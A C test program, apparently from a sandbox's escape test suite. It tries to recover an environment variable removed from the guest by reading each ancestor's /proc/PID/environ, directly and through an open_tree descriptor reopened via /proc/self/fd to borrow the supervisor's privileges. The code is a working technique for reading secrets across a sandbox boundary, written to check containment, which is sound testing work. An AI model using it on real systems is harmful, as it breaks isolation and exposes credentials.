/* Attack: read an environment variable that was removed from the guest's
 * environment (--unsetenv, --clearenv) out of an ancestor's
 * /proc/PID/environ: every process up the ppid chain, opened directly and,
 * since the sandbox's init is not dumpable, as an O_PATH fd from open_tree
 * (no open(2), so not brokered) reopened through /proc/self/fd/N, which the
 * supervisor performs with its own credentials.
 *
 * Stops it (should): init is non-dumpable, so the kernel refuses the guest;
 * the supervisor's reopen must not lend it the supervisor's privileges (in
 * a root sandbox, the host's root).
 * Natively: the program is started without the variable by a shell that has
 * it; the parent's /proc/PID/environ holds it (ESCAPED).
 *
 * Usage: env_leak TOKEN VARIABLE   (VARIABLE=TOKEN in an ancestor's environment)
 */
#include <linux/mount.h>
#include <sys/syscall.h>

#include "escape.h"

static void check(const char *how, int fd, const char *var)
{
	char buf[65536];
	ssize_t n = read_some(fd, buf, sizeof(buf));
	close(fd);
	size_t vlen = strlen(var);
	for (ssize_t off = 0; off < n; off += (ssize_t)strlen(buf + off) + 1) {
		const char *s = buf + off;
		if (strncmp(s, var, vlen) == 0 && s[vlen] == '=' && strstr(s, escape_token))
			escaped("%s: %s", how, s);
	}
	escape_note("%s: read, variable not there", how);
}

int main(int argc, char **argv)
{
	escape_init(argc, argv, "env-leak", 1, "VARIABLE");
	const char *var = argv[2];
	if (getenv(var))
		setup_failed("%s is in the program's own environment", var);
	pid_t pid = getppid();
	for (int depth = 0; depth < 64 && pid > 0; depth++) {
		char path[64], how[128], fdpath[64];
		snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		snprintf(how, sizeof(how), "open %s", path);
		if (fd >= 0)
			check(how, fd, var);
		else
			escape_note("%s: %s", how, strerror(errno));
		int tree = (int)syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLOEXEC);
		snprintf(how, sizeof(how), "open_tree %s + /proc/self/fd/N", path);
		if (tree >= 0) {
			snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", tree);
			fd = open(fdpath, O_RDONLY | O_CLOEXEC);
			if (fd >= 0)
				check(how, fd, var);
			else
				escape_note("%s: %s", how, strerror(errno));
			close(tree);
		} else {
			escape_note("open_tree %s: %s", path, strerror(errno));
		}
		if (pid == 1)
			break;
		/* The parent's parent, from /proc/PID/stat (field 4). */
		snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
		FILE *f = fopen(path, "re");
		int ppid = 0;
		if (!f || fscanf(f, "%*d (%*[^)]) %*c %d", &ppid) != 1)
			ppid = 0;
		if (f)
			fclose(f);
		pid = ppid;
	}
	contained();
}
